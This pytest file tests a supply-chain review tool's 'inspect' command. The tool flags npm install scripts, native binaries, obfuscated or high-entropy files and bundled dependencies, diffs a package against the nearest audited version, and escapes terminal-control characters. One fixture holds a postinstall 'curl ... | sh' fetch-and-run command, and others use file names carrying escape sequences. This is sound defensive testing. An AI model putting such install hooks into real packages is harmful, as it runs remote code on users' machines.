"""The inspection aid: what to review first, the nearest audited version, the diff."""

from __future__ import annotations

import base64
import os

import pytest

from package_trust.cli import main
from registry_server import FakeRegistry, left_pad, manifest, tgz
from support import Key, Project, integrity_of

MINIFIED = b"var a=1;" * 300 + b"\n"
PACKED = base64.encodebytes(os.urandom(3000))  # base64 in lines of 76: not one long line


def inspect_out(capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    assert main(["inspect", *argv]) == 0
    return capsys.readouterr().out


def test_flags_what_runs_at_install_and_what_is_hard_to_read(
    project: Project, registry: FakeRegistry, capsys: pytest.CaptureFixture[str]
) -> None:
    scripts = {"postinstall": "node install.js && curl https://example.org/x | sh",
               "test": "tap test"}
    registry.publish("risky", "2.0.0", tgz({
        "package.json": manifest("risky", "2.0.0", scripts=scripts,
                                 bundleDependencies=["inner"]),
        "install.js": b"require('child_process')\n",
        "binding.gyp": b"{}",
        "build/Release/addon.node": b"\x7fELF\0\0\0",
        "logo.png": b"\x89PNG\r\n\x1a\n\0\0",
        "dist/app.min.js": MINIFIED,
        "lib/blob.js": PACKED,
        "node_modules/inner/package.json": manifest("inner", "1.0.0"),
    }))
    assert main(["fetch", "risky@2.0.0"]) == 0
    out = capsys.readouterr().out
    assert "risky@2.0.0: 8 files" in out
    assert "!! lifecycle scripts" in out
    assert f"postinstall: {scripts['postinstall']}" in out  # in full
    assert "tap test" not in out
    assert "binding.gyp (native addon build file)" in out
    assert "build/Release/addon.node (prebuilt native binary" in out
    assert "logo.png" in out
    assert "dist/app.min.js (a line of 2400 characters)" in out
    assert "lib/blob.js (entropy" in out
    assert "bundled dependencies (1):\n     inner" in out
    assert "install.js (" not in out  # plain code is not flagged


def test_binding_gyp_alone_means_an_install_script(
    project: Project, registry: FakeRegistry, capsys: pytest.CaptureFixture[str]
) -> None:
    registry.publish("native", "1.0.0", tgz({"package.json": manifest("native", "1.0.0"),
                                             "binding.gyp": b"{}"}))
    out = inspect_out(capsys, "native@1.0.0")  # inspect fetches what is missing
    assert "fetched native@1.0.0" in out
    assert "install: node-gyp rebuild" in out


def test_a_plain_package_has_nothing_flagged(
    project: Project, registry: FakeRegistry, capsys: pytest.CaptureFixture[str]
) -> None:
    registry.publish("left-pad", "1.3.0", left_pad())
    assert main(["fetch", "left-pad@1.3.0"]) == 0
    capsys.readouterr()
    out = inspect_out(capsys, "left-pad@1.3.0")
    assert "fetched" not in out
    assert "!!" not in out
    assert "lifecycle scripts: none" in out and "native code: none" in out
    assert "no trust-policy.yml here" in out


def test_nearest_audited_version_and_the_diff_from_it(
    project: Project, registry: FakeRegistry, keys: dict[str, Key],
    capsys: pytest.CaptureFixture[str]
) -> None:
    alice = keys["alice"]
    project.add_key(alice)
    project.policy([alice])
    old = {v: left_pad(v) for v in ("1.0.0", "1.1.0", "1.2.0")}
    for version, data in old.items():
        registry.publish("left-pad", version, data)
    new = left_pad("1.3.0", **{"extra.js": b"module.exports = 1;\n"})
    registry.publish("left-pad", "1.3.0", new)
    registry.publish("left-pad", "2.0.0", left_pad("2.0.0"))
    for version in ("1.0.0", "1.1.0"):
        project.sign(alice, "left-pad", version, integrity_of(old[version]))
    project.sign(alice, "left-pad", "2.0.0", integrity_of(b"not the registry's tarball"))

    assert main(["fetch", "left-pad@1.3.0"]) == 0
    out = capsys.readouterr().out
    assert "ledger: 2 audited version(s) of left-pad; the nearest is 1.1.0" in out
    assert "package-trust inspect left-pad@1.3.0 --diff-from 1.1.0" in out

    out = inspect_out(capsys, "left-pad@1.3.0", "--diff-from", "1.1.0")
    assert "fetched left-pad@1.1.0" in out
    assert "diff left-pad@1.1.0 -> left-pad@1.3.0:" in out
    assert "+++ b/1.3.0/extra.js" in out and "+module.exports = 1;" in out
    assert '-  "version": "1.1.0",' in out and '+  "version": "1.3.0",' in out
    assert "/index.js" not in out  # unchanged files are not shown


def test_no_audited_version_says_so(
    project: Project, registry: FakeRegistry, keys: dict[str, Key],
    capsys: pytest.CaptureFixture[str]
) -> None:
    project.add_key(keys["alice"])
    project.policy([keys["alice"]])
    registry.publish("left-pad", "1.3.0", left_pad())
    assert main(["fetch", "left-pad@1.3.0"]) == 0
    assert "no other audited version of left-pad" in capsys.readouterr().out


def test_diff_from_a_version_that_does_not_exist(
    project: Project, registry: FakeRegistry, capsys: pytest.CaptureFixture[str]
) -> None:
    registry.publish("left-pad", "1.3.0", left_pad())
    assert main(["fetch", "left-pad@1.3.0", "--diff-from", "0.0.1"]) == 2
    assert "left-pad@0.0.1 does not exist in the registry" in capsys.readouterr().err


def test_hostile_names_scripts_and_diffs_are_shown_escaped(
    project: Project, registry: FakeRegistry, capsys: pytest.CaptureFixture[str]
) -> None:
    scripts = {"postinstall": "node a.js\n     install: none\x1b[2K"}
    registry.publish("hostile", "1.0.0", tgz({
        "package.json": manifest("hostile", "1.0.0", scripts=scripts,
                                 bundleDependencies=["dep\u202e"]),
        "bin\x1b[8m.node": b"\x7fELF\0",
    }))
    registry.publish("hostile", "1.1.0", tgz({
        "package.json": manifest("hostile", "1.0.0", scripts=scripts,
                                 bundleDependencies=["dep\u202e"]),
        "bin\x1b[8m.node": b"\x7fELF\0",
        "new\nfile.js": b"x = 1;\x1b[2J\nsafe();\r\n",
    }))
    assert main(["fetch", "hostile@1.0.0"]) == 0
    out = inspect_out(capsys, "hostile@1.1.0", "--diff-from", "1.0.0")
    assert all(line.isprintable() for line in out.splitlines())
    assert "     postinstall: node a.js\\n     install: none\\x1b[2K\n" in out
    assert "     bin\\x1b[8m.node (prebuilt native binary, 5 bytes)\n" in out
    assert "bundled dependencies (1):\n     dep\\u202e\n" in out
    assert "+++ b/1.1.0/new\\nfile.js\n" in out
    assert "+x = 1;\\x1b[2J\n+safe();\n" in out  # a real line break stays one


def test_a_change_past_the_shown_part_of_a_large_file_is_a_difference(tmp_path) -> None:
    """Two large files alike in their first MiB and not after: they differ."""
    from package_trust.audit.review import MAX_DIFF_BYTES, diff_folders

    for side, tail in (("old", b"ok()"), ("new", b"evil()")):
        (tmp_path / side).mkdir()
        (tmp_path / side / "big.js").write_bytes(b"x" * (MAX_DIFF_BYTES + 10) + tail)
    assert list(diff_folders(tmp_path / "old", tmp_path / "new", "a", "b")) == [
        "Files a/big.js and b/big.js differ (too large to show)"]


def test_what_is_shown_is_what_the_registry_serves(
    project: Project, registry: FakeRegistry, capsys: pytest.CaptureFixture[str]
) -> None:
    """A file edited by hand in the unpacked folder is not what the auditor reviews:
    inspect unpacks the stored tarball afresh, once it matches the registry's hashes; a
    stored tarball that does not is refused."""
    registry.publish("left-pad", "1.3.0", left_pad())
    assert main(["fetch", "left-pad@1.3.0"]) == 0
    folder = project.fetched / "left-pad/1.3.0"
    (folder / "index.js").write_text("harmless()\n")
    out = inspect_out(capsys, "left-pad@1.3.0")
    assert "unpacked left-pad@1.3.0 afresh: sha512 and sha1 match the registry's" in out
    assert (folder / "index.js").read_text() != "harmless()\n"
    (folder.parent / "1.3.0.tgz").write_bytes(left_pad(**{"x.js": b"x"}))
    assert main(["inspect", "left-pad@1.3.0"]) == 2
    assert "delete it and fetch again" in capsys.readouterr().err
